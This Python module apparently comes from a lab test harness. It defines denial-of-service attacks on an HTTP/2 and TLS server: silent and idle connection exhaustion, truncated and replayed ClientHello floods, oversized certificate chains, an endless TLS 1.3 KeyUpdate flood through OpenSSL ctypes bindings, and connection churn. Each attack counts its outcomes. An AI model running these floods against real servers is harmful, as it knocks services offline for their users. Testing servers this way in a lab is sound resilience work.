"""Attacks below HTTP: on connections and on TLS handshakes."""
import ctypes
import ctypes.util
import socket
import ssl

import ground
import http2


def control(site):
    """No attack: the attackers' core is as busy as with one. What the good client feels of it is the machine's own."""
    ours, theirs = socket.socketpair()
    while not site.is_over():
        ours.sendall(bytes(1 << 15))
        theirs.recv(1 << 16)
    ours.close()
    theirs.close()


def silent_connections(site):
    """Cleartext connections that say nothing, as many as the server takes."""
    site.silent(site.http2, site.most(10100))


def silent_handshakes(site):
    """The same at the TLS listener."""
    site.silent(site.tls, site.most(5000))


def half_client_hellos(site):
    """TLS handshakes that stop in the middle of their first message."""
    hello = ground.client_hello()
    site.silent(site.tls, site.most(5000), hello[:len(hello) // 2])


def whole_client_hellos(site):
    """A first message costs the server a key exchange and a signature, and who sent it nothing: it was made once."""
    hello = ground.client_hello()
    while not site.is_over():
        try:
            one = socket.create_connection(site.tls, timeout=2)
            one.sendall(hello)
            site.seen["answered"] += 1 if one.recv(1 << 14) else 0
            ground.vanish(one)
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1


def unread_client_hellos(site):
    """The same without waiting for the answer, a hundred at a time."""
    hello = ground.client_hello()
    while not site.is_over():
        wave = []
        for _ in range(100):
            try:
                wave.append(socket.create_connection(site.tls, timeout=2))
                wave[-1].sendall(hello)
                site.seen["connected"] += 1
            except OSError as error:
                site.seen["refused: " + type(error).__name__] += 1
        for one in wave:
            ground.vanish(one)


def idle_connections(site):
    """Connections that ask for one thing, and nothing more, as many as the server takes: they are no silent ones."""
    block = http2.request_block("GET", "localhost", "/health")
    request = http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, block)
    site.silent(site.http2, site.most(10100), http2.PREFACE + http2.settings() + request)


def handshakes_with_long_chains(site):
    """Whole handshakes with certificates of a CA that nobody knows, as many in one chain as the server reads."""
    pki = site.target.lab.folder / "strangers"
    site.target.lab.run_ue_sim("pki", "--force", "--out", pki)
    leaf, anchor = ((pki / name).read_text() for name in ("tls-ue-sim.pem", "tls-ca.pem"))
    chain = pki / "chain.pem"
    chain.write_text(leaf + anchor * (15 * 1024 // len(ssl.PEM_cert_to_DER_cert(anchor))))
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(chain, pki / "tls-ue-sim.key")
    while not site.is_over():
        try:
            one = socket.create_connection(site.tls, timeout=2)
            one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            with context.wrap_socket(one) as one:
                while one.recv(1 << 14):
                    pass
            site.seen["closed"] += 1
        except ssl.SSLError as error:
            site.seen[error.reason] += 1
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1


class _OpenSsl:
    """What Python's ssl has not: a client of TLS 1.3 that changes its keys. It verifies nothing."""
    _POINTERS = ("TLS_client_method", "SSL_CTX_new", "SSL_new", "BIO_s_mem", "BIO_new")

    def __init__(self, address):
        self.calls = ctypes.CDLL(ctypes.util.find_library("ssl"))
        for name in self._POINTERS:
            getattr(self.calls, name).restype = ctypes.c_void_p
        pointer = ctypes.c_void_p
        self.context = pointer(self.calls.SSL_CTX_new(pointer(self.calls.TLS_client_method())))
        self.calls.SSL_CTX_set_alpn_protos(self.context, b"\x02h2", 3)
        self.connection = pointer(self.calls.SSL_new(self.context))
        self.inward, self.outward = (pointer(self.calls.BIO_new(pointer(self.calls.BIO_s_mem()))) for _ in range(2))
        self.calls.SSL_set_bio(self.connection, self.inward, self.outward)
        self.calls.SSL_set_connect_state(self.connection)
        self.buffer = ctypes.create_string_buffer(1 << 16)
        self.socket = socket.create_connection(address, timeout=2)
        while self.calls.SSL_do_handshake(self.connection) != 1:
            self.send()
            octets = self.socket.recv(1 << 14)
            if not octets:
                raise ConnectionResetError
            self.calls.BIO_write(self.inward, octets, len(octets))
        self.send()

    def send(self):
        while True:
            size = self.calls.BIO_read(self.outward, self.buffer, len(self.buffer))
            if size <= 0:
                return
            self.socket.sendall(self.buffer.raw[:size])

    def change_keys(self):
        self.calls.SSL_key_update(self.connection, 0)  # SSL_KEY_UPDATE_NOT_REQUESTED
        self.calls.SSL_do_handshake(self.connection)

    def close(self):
        ground.vanish(self.socket)
        self.calls.SSL_free(self.connection)
        self.calls.SSL_CTX_free(self.context)


def floods_after_handshakes(site):
    """New keys without end (KeyUpdate of TLS 1.3): the server derives them, and who sends them need not wait for anything."""
    while not site.is_over():
        try:
            peer = _OpenSsl(site.tls)
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1
            continue
        try:
            while not site.is_over():
                for _ in range(500):
                    peer.change_keys()
                site.seen["new keys"] += 500
                peer.send()
        except OSError:
            site.seen["ended"] += 1
        peer.close()


def connection_flood(site):
    """Connections that come and go."""
    while not site.is_over():
        try:
            ground.vanish(socket.create_connection(site.http2, timeout=2))
            site.seen["connected"] += 1
        except OSError as error:
            site.seen["refused: " + type(error).__name__] += 1
